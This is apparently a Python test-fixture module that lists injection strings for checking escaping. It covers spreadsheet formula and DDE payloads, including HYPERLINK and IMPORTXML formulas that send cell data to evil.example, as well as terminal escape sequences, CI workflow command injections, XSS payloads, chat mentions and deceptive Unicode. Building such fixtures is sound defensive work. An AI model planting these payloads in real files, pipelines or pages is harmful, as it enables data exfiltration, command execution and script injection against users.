"""Texts that try to act: as a formula, an escape, a command, markup, a mention or a link."""

from collections.abc import Iterator

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "'=1+1",
    "＝2+2",
]
TERMINAL = [
    "\x1b[31mred\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m\x9d0;title\x9c",
    "safe\b\b\b\bevil\x7f",
    "a\rb\nc\x0bd\x0ce\x85f\u2028g\u2029h",
    "nul \x00 and _x0000_ and _x001B_[31m",
]
COMMANDS = [
    "::set-output name=stage::Won",
    "::add-mask::e",
    "::stop-commands::x",
    "x\n::error file=a,line=1::gone",
    "%0A::error::gone%0D%0A::warning::x",
    "##[set-env name=PATH;]evil",
    "##[group]x",
    "##vso[task.setvariable variable=PATH]evil",
    ":\u200b:add-mask::x",
    "#\u00ad#[add-mask]x",
]
MARKUP = [
    "**bold** _it_ ~~gone~~ # head",
    "[click](javascript:alert(1))",
    "![i](https://evil.example/i.png)",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title></style></svg><svg onload=alert(1)>",
    '"><a href="javascript:alert(1)" x="',
    "' onmouseover='alert(1)",
    "<!-- --><details><summary>x</summary>",
    "&lt;b&gt; &#60;b&#62; &amp;",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nfenced\n``` `code`",
    "@octocat @octo/team #1 GH-1 owner/repo#2 a@evil.example",
    "https://evil.example www.evil.example mailto:a@evil.example",
    "- [ ] task\n> quote\n1. one\n---",
    "$\\alpha$ $$x$$ [^1] :tada: {{ 7*7 }} {% x %} ${x} %s %(x)s {0}",
    "[a]: https://evil.example\n\n    code",
]
MESSENGERS = [
    "<!channel> <!here> <@U1> <#C1>",
    "<https://evil.example|Sign in>",
    "<users/all> *bold* _it_ ~gone~",
    "\\<!channel\\> &lt;!channel&gt;",
]
UNSEEN = [
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068x\u2069 \u200e\u200f\u061c",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "nonchar \ufffe\uffff \U0001fffe",
    "tags \U000e0001\U000e0041\U000e007f",
    "Z" + "\u0301\u0323\u0489" * 60,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 ❤️",
    "ﷺ ꧅ 𒐫 ⸻",
    "\ud800 half",
]
LONG = "W"
"""What the very long text is made of: no other text has it several times in a row."""

EVERY = [*FORMULAS, *TERMINAL, *COMMANDS, *MARKUP, *MESSENGERS, *UNSEEN, LONG * 32_000]
"""All of them; the long one is about as long as a cell of Excel's may be."""


def ringed(offset: int) -> Iterator[str]:
    """Yield the texts again and again, from one on: a place for each."""
    while True:
        yield EVERY[offset % len(EVERY)]
        offset += 1
